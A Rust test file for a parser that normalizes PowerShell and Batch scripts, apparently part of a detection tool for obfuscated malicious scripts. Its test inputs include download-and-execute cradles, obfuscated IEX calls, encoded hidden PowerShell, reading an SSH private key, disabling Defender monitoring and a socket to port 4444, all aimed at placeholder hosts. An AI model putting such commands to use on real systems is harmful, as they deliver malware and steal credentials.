#![allow(clippy::unwrap_used)]

use super::lower;
use crate::document::Language;
use crate::lower::render::render;

#[track_caller]
fn check(language: Language, cases: &[(&str, &str)]) {
    let mut failed = String::new();
    for (text, expected) in cases {
        let got = render(&lower(text, language));
        if got != *expected {
            failed.extend([format!("{text:?}\n  expected {expected}\n  got      {got}\n")]);
        }
    }
    assert!(failed.is_empty(), "\n{failed}");
}

#[track_caller]
fn powershell(cases: &[(&str, &str)]) {
    check(Language::PowerShell, cases);
}

#[track_caller]
fn batch(cases: &[(&str, &str)]) {
    check(Language::Batch, cases);
}

#[test]
fn commands_and_arguments() {
    powershell(&[
        (
            "Invoke-WebRequest -Uri https://x.test/a -OutFile a.exe",
            "[invoke-webrequest -uri https://x.test/a -outfile a.exe]",
        ),
        ("iwr x.test | IEX", "[iwr x.test] | [iex]"),
        ("`I`E`X $x", "[iex \"x\"]"),
        ("Start-Process $env:TEMP\\a.exe -Wait", "[start-process \"env:TEMP\"\\a.exe -wait]"),
        ("Get-Content $HOME\\.ssh\\id_rsa", "[get-content \"home\"\\.ssh\\id_rsa]"),
        (
            "IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')",
            "[iex \"Net.WebClient().DownloadString(\"http://x.test/a\")\"]",
        ),
        ("iex (iwr x.test).Content", "[iex \"$([iwr x.test]).Content\"]"),
        ("& 'a b.exe' x", "['a b.exe' x]"),
        ("& $cmd -X:1", "[\"cmd\" -x 1]"),
        (".(\"i\"+\"ex\") x", "[\"(\"i\" Add \"ex\")\" x]"),
        ("&(gcm i*x) $p", "[\"$([gcm i*x])\" \"p\"]"),
        (". .\\lib.ps1", "[.\\lib.ps1]"),
        ("./run.ps1 -A", "[./run.ps1 -a]"),
        ("& { iwr x | iex }", "[\"def (){[iwr x] | [iex]}\"]"),
        ("powershell -NoP -w hidden -enc AAAA", "[powershell -nop -w hidden -enc AAAA]"),
        ("powershell –enc AAAA", "[powershell -enc AAAA]"),
        ("cmd /c \"dir & echo\"", "[cmd /c 'dir & echo']"),
        ("git commit --amend -m 'x y'", "[git commit --amend -m 'x y']"),
        ("icacls x --% /grant A:(F) | b", "[icacls x '/grant' 'A:(F)'] | [b]"),
        ("f a,b, $c", "[f \"[\"a\", \"b\", c]\"]"),
        ("f @p -V", "[f \"*p\" -v]"),
        ("gci | % { $_.Name } | ? {$_}", "[gci] | [% \"def (){_.Name}\"] | [? \"def (){_}\"]"),
        ("a; b # c\n<# d\n#> e", "[a]; [b]; [e]"),
        ("a `\n  b", "[a b]"),
        ("a\n  | b", "[a] | [b]"),
        ("a && b || c", "[a]; [b]; [c]"),
        ("a &", "[a &]"),
        ("a > f 2>&1; b >> g; c *> h; d 2> $null", "[a >f 2>&1]; [b >>g]; [c &>h]; [d 2>\"const\"]"),
        ("'x' > f", "group{\"x\"}>f"),
        ("PS C:\\Users\\me> iwr x | iex", "[iwr x] | [iex]"),
        ("“a” | iex", "\"a\" | [iex]"),
        (
            "sal foo iex; Set-Alias -Value iwr -Name G",
            "alias foo = \"iex\"; [sal foo iex]; alias g = \"iwr\"; [set-alias -value iwr -name G]",
        ),
        ("7z x a.7z", "[7z x a.7z]"),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "[set-mppreference -disablerealtimemonitoring \"const\"]",
        ),
    ]);
}

#[test]
fn strings_and_folding() {
    powershell(&[
        (
            "$a = \"x $b $($c.d) ${e f} $env:Path`n\"",
            "a := <\"x \", b, \" \", c.d, \" \", e f, \" \", env:PATH, \"\\n\">",
        ),
        ("$a = 'it''s $x'", "a := \"it's $x\""),
        ("$a = \"say \"\"hi\"\" `$x\"", "a := \"say \\\"hi\\\" $x\""),
        ("$a = @'\nl1 $x\nl2\n'@", "a := \"l1 $x\\nl2\""),
        ("$a = @\"\r\nl1 $x\r\n\"@; b", "a := <\"l1 \", x>; [b]"),
        ("('{1}{0}'-f'X','IE')", "(\"{1}{0}\" Format [\"X\", \"IE\"])"),
        ("[char]73+[char]69+[char]0x58", "((\"I\" Add \"E\") Add \"X\")"),
        ("-join('I','E','X')", "([\"I\", \"E\", \"X\"] Join \"\")"),
        ("('I','E','X') -join ''", "([\"I\", \"E\", \"X\"] Join \"\")"),
        ("-join([char[]](73,69,88))", "([\"I\", \"E\", \"X\"] Join \"\")"),
        ("'xIEX' -replace 'x',''", "(\"xIEX\" Replace [\"x\", \"\"])"),
        ("'a,b' -split ','", "(\"a,b\" Split \",\")"),
        ("'ab'*3", "(\"ab\" Multiply 3)"),
        ("$s[-1..-3] -join ''", "(s[[-1, -2, -3]] Join \"\")"),
        ("[char](70+3)", "\"I\""),
        ("[char]($_ -bxor 3)", "char((_ Xor 3))"),
        ("$PSHome[4]+$pshome[30]+'x'", "((pshome[4] Add pshome[30]) Add \"x\")"),
        ("$x ?? 'y'", "choice(x, \"y\")"),
        ("$a = $b ? 'c' : 'd'", "a := choice(\"c\", \"d\")"),
        ("1kb, 0xff, 1.5", "[1024, 255, const]"),
        ("[string]::Join('', $a)", "System.string.Join(\"\", a)"),
    ]);
}

#[test]
fn members_types_and_calls() {
    powershell(&[
        ("[System.Convert]::FromBase64String($x)", "System.Convert.FromBase64String(x)"),
        (
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ=='))",
            "Text.Encoding.UTF8.GetString(System.convert.FromBase64String(\"QQ==\"))",
        ),
        ("[scriptblock]::Create($x).Invoke()", "System.scriptblock.Create(x).Invoke()"),
        ("$ExecutionContext.InvokeCommand.InvokeScript($x)", "executioncontext.InvokeCommand.InvokeScript(x)"),
        ("$w.('Down'+'loadString')('u')", "w.DownloadString(\"u\")"),
        ("$w.$m('u')", "w[m](\"u\")"),
        ("$w.'Dow`nload'(1)", "w.Dow`nload(1)"),
        ("$a.b[0].c", "a.b[0].c"),
        (
            "(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\x.exe\")",
            "Net.WebClient().DownloadFile(u, <env:TEMP, \"\\\\x.exe\">)",
        ),
        ("$x = [int]'5'", "x := int(\"5\")"),
        ("[void](foo)", "$([foo])"),
        ("[Net.ServicePointManager]::SecurityProtocol = 3072", "Net.ServicePointManager.SecurityProtocol := 3072"),
        ("$x?.y", "x.y"),
        ("New-Object Net.Sockets.TcpClient('h.test', 4444)", "Net.Sockets.TcpClient(\"h.test\", 4444)"),
        (
            "$c = New-Object -TypeName T.C -ArgumentList 'a',$b -Property @{x=1}",
            "c := T.C(\"a\", b, property={\"x\": 1})",
        ),
        ("New-Object -ComObject WScript.Shell", "WScript.Shell()"),
        ("[Net.WebClient]::new().DownloadString($u)", "Net.WebClient().DownloadString(u)"),
        ("New-Object ('Net.'+'WebClient')", "Net.WebClient()"),
        ("$s.Substring($i * 2, 2 + $j)", "s.Substring((i Multiply 2), (2 Add j))"),
        ("a -k <key> x\\<dir>\\y", "[a -k <key> x\\<dir>\\y]"),
    ]);
}

#[test]
fn statements_of_powershell() {
    powershell(&[
        ("$a = iwr x", "a := $([iwr x])"),
        ("$a = $b = 1", "b := 1; a := b"),
        ("$a += 'x'", "a += \"x\""),
        ("[string]$a = 'x'", "a := \"x\""),
        ("$a, $b = 1, 2", "[a, b] := [1, 2]"),
        ("$env:Path = 'x'", "env:PATH :=export \"x\""),
        ("$global:X = 1", "x := 1"),
        ("$a = @{ k = 1; 'l m' = iwr x\n n=3 }", "a := {\"k\": 1, \"l m\": $([iwr x]), \"n\": 3}"),
        ("$a = @('x','y')", "a := [\"x\", \"y\"]"),
        ("$a = @()", "a := []"),
        ("if ($a -eq 1) { b } elseif (c) { d } else { e }", "branch((a Other 1), $([c])){[b]}{[d]}{[e]}"),
        ("foreach ($x in $xs) { iex $x }", "loop(x in xs){[iex \"x\"]}"),
        ("for ($i=0; $i -lt 3; $i++) { a }", "i := 0; loop((i Other 3)){[a]; i}"),
        ("while ($true) { a }", "loop(const){[a]}"),
        ("do { a } until ($b)", "loop(b){[a]}"),
        ("switch ($x) { 'a' { b } default { c } }", "branch(x, \"a\"){[b]}{[c]}"),
        ("try { a } catch [X.Y] { b } finally { c }", "branch(){[a]}{[b]}; [c]"),
        ("function Get-It($A, [int]$B = 2) { iwr $A }", "def get-it(a, b=2){[iwr \"a\"]}"),
        ("function f { param([Parameter(Mandatory=$true)][string]$U = 'x') iex $U }", "def f(u=\"x\"){[iex \"u\"]}"),
        ("param($U = 'x')\niwr $U", "u := \"x\"; [iwr \"u\"]"),
        ("$f = { param($x) iex $x }; & $f 'a'", "f := def (x){[iex \"x\"]}; [\"f\" 'a']"),
        ("function f { return iwr x }", "def f(){return $([iwr x])}"),
        (
            "class A : B { [string]$x = 'y'\n [void] Run([string]$u) { iex $u } }",
            "class A(B){x := \"y\"; def Run(u){[iex \"u\"]}}",
        ),
        ("Process { a }", "[a]"),
        ("iwr x | foreach { $_ }", "[iwr x] | [foreach \"def (){_}\"]"),
    ]);
}

#[test]
fn damage_hides_nothing() {
    powershell(&[
        ("echo 'open\niwr x | iex", "[echo open]; [iwr x] | [iex]"),
        ("echo \"open\niwr x | iex", "[echo open]; [iwr x] | [iex]"),
        (") } iwr x | iex", "[iwr x] | [iex]"),
        ("if ($a {\niwr x | iex", "branch($(a; def (){[iwr x] | [iex]})){}"),
        ("foo(\niwr x | iex", "[foo \"$([iwr x] | [iex])\"]"),
        ("$x = \niwr x | iex", "x := $([iwr x] | [iex])"),
        ("@'\nopen\niwr x | iex", "[open]; [iwr x] | [iex]"),
    ]);
    for text in ["a 'x", "a >&", ") x", "if ($a", "else { a }"] {
        assert!(!lower(text, Language::PowerShell).damage.is_empty(), "{text:?}");
    }
    for text in ["a 'x'", "if ($a) { b } c", "$x.y(1)[0]++", "& $x | y"] {
        assert!(
            lower(text, Language::PowerShell).damage.is_empty(),
            "{text:?} {:?}",
            lower(text, Language::PowerShell).damage
        );
    }
}

#[test]
fn batch_files() {
    batch(&[
        ("@echo off\r\nrem x\r\n:: y\r\necho hi", "[echo off]; [echo hi]"),
        ("p^o^w^ershell -enc AAAA", "[powershell -enc AAAA]"),
        ("cu^\r\nrl x", "[curl x]"),
        ("%COMSPEC:~0,3% %COMSPEC% !x!", "[${COMSPEC:0:3} ${COMSPEC} ${X}]"),
        ("echo %x:a=b% %x:~-3%", "[echo ${X//\"a\"/\"b\"} ${X:-3}]"),
        ("set x=cu\r\nset \"y=rl -s\" & %x%%y%", "X := \"cu\"; Y := \"rl -s\"; [${X}${Y}]"),
        ("set /p x=hi", "[set /p x=hi]"),
        ("curl x.test -o a.exe && start a.exe", "[curl x.test -o a.exe]; [start a.exe &]"),
        ("curl x | cmd", "[curl x] | [cmd]"),
        ("a > f 2>&1 & b >> g < h", "[a >f 2>&1]; [b >>g <h]"),
        ("if exist x (a & b) else c", "branch(other(\"x\")){[a]; [b]}{[c]}"),
        ("if /i not \"%1\"==\"y\" goto :end", "branch(other(<${1}, \"==\", \"y\">)){[goto :end]}"),
        ("if %a% equ 3 (\n a\n)\nb", "branch(other(${A}, \"3\")){[a]}; [b]"),
        ("for /f \"tokens=*\" %%i in ('curl x.test') do %%i", "loop(%i in $([curl x.test])){[${%i}]}"),
        ("for %%f in (a b,c) do (del %%f)", "loop(%f in [\"a\", \"b\", \"c\"]){[del ${%f}]}"),
        ("call :sub %~dp0x %*\n:sub\ndir", "[call :sub ${~dp0}x ${*}]; [dir]"),
        ("start \"\" \"C:\\a b\\c.exe\"", "[start '' 'C:\\a b\\c.exe' &]"),
        ("echo a^&b \"c^&d\" 100%%", "[echo a&b 'c^&d' 100%]"),
        ("(a\nb) > f", "group{[a]; [b]}>f"),
        ("PowerShell.exe -c \"iwr x | iex\"", "[powershell.exe -c 'iwr x | iex']"),
        ("a || b", "[a]; [b]"),
    ]);
}

fn on_worker_stack(work: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new().stack_size(16 << 20).spawn(work).unwrap().join().unwrap();
}

#[test]
fn hostile_texts_take_linear_time_and_little_stack() {
    on_worker_stack(|| {
        let pieces = [
            "(",
            "$(",
            "@(",
            "{",
            "@{a=",
            "[",
            "[a]",
            "\"",
            "\"$(",
            "'",
            "@\"\n",
            "@'\n",
            "if (",
            "if(a){",
            "!",
            "-not ",
            "-join ",
            "'a'+",
            "1,",
            "1..",
            "$a.b",
            ".a(",
            "a|",
            "a;",
            "$a=",
            "& ",
            "a -b ",
            "`\n",
            "<#",
            "x(",
            "${",
            "function f{",
            "switch(a){",
            "try{",
            "a ? b : ",
            "$a ?? ",
            "'a' -f ",
            "else ",
            "[char]",
            "for(",
            "param(",
            "class a{",
            "$a[",
            "“",
            "%a%",
            "if a ",
            "for ",
            "(a&",
            "!a!",
            "^",
            ")",
            "}",
            "]",
            "a\r",
            "'a'*",
            ",",
            "++",
            "-",
        ];
        for piece in pieces {
            let text = piece.repeat(200_000 / piece.len());
            for language in [Language::PowerShell, Language::Batch] {
                let started = std::time::Instant::now();
                let program = lower(&text, language);
                // Not a benchmark: quadratic work on these would take minutes.
                assert!(started.elapsed().as_secs() < 20, "{piece:?} took {:?}", started.elapsed());
                let _ = render(&program);
            }
        }
    });
}

mod properties {
    use proptest::prelude::*;

    use super::lower;
    use crate::document::Language;

    fn pieces() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            "a",
            "é",
            "中",
            " ",
            " ",
            "\n",
            "\r\n",
            "\r",
            "'",
            "\"",
            "“",
            "’",
            "–",
            "`",
            "$",
            "$a",
            "${",
            "}",
            "{",
            "(",
            ")",
            "$(",
            "@(",
            "@{",
            "@\"\n",
            "\n\"@",
            "@'",
            "[",
            "]",
            "[char]",
            "::",
            ".",
            ",",
            "..",
            "|",
            "&",
            "&&",
            ";",
            "=",
            "+=",
            "+",
            "-",
            "-f ",
            "-join ",
            "?",
            "??",
            ":",
            "if ",
            "else ",
            "for ",
            "foreach ",
            "function ",
            "param",
            "switch ",
            "try",
            "catch ",
            "class ",
            "<#",
            "#>",
            "#",
            "%",
            "%%",
            "!",
            "^",
            ">",
            "2>&1",
            "<",
            "--% ",
            "set ",
            "1",
            "0x",
        ]);
        prop::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_text_is_lowered_with_spans_inside_it(text in prop_oneof![any::<String>(), pieces(), pieces(), pieces()]) {
            for language in [Language::PowerShell, Language::Batch] {
                let debug = format!("{:?}", lower(&text, language));
                for rest in debug.split("Span { start: ").skip(1) {
                    let (start, rest) = rest.split_once(", end: ").unwrap();
                    let (start, end): (usize, usize) = (start.parse().unwrap(), rest.split(' ').next().unwrap().parse().unwrap());
                    prop_assert!(text.get(start..end).is_some(), "{start}..{end} in {text:?}");
                }
            }
        }
    }
}
